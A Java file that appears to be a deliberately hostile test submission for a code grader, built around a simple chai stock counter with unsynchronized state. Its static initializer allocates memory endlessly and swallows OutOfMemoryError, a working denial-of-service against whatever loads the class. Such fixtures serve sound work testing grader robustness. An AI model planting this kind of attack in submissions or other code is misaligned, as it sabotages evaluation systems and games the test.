package race;

/** A hostile submission: the stub's races plus an attack on the grader. */
public class ChaiStock {
    private long cups;

    static final java.util.List<long[]> HOARD = new java.util.ArrayList<>();

    static {
        while (HOARD.size() >= 0) {
            try {
                HOARD.add(new long[1 << 20]);
            } catch (OutOfMemoryError e) {
                // swallowed: keep going
            }
        }
    }
    public ChaiStock(long initialCups) {
        if (initialCups < 0) {
            throw new IllegalArgumentException("initialCups < 0");
        }
        this.cups = initialCups;
    }

    public void restock(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }

        this.cups += cups;
    }

    public boolean sell(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }

        if (this.cups >= cups) {
            this.cups -= cups;
            return true;
        }
        return false;
    }

    public long cups() {
        return cups;
    }
}
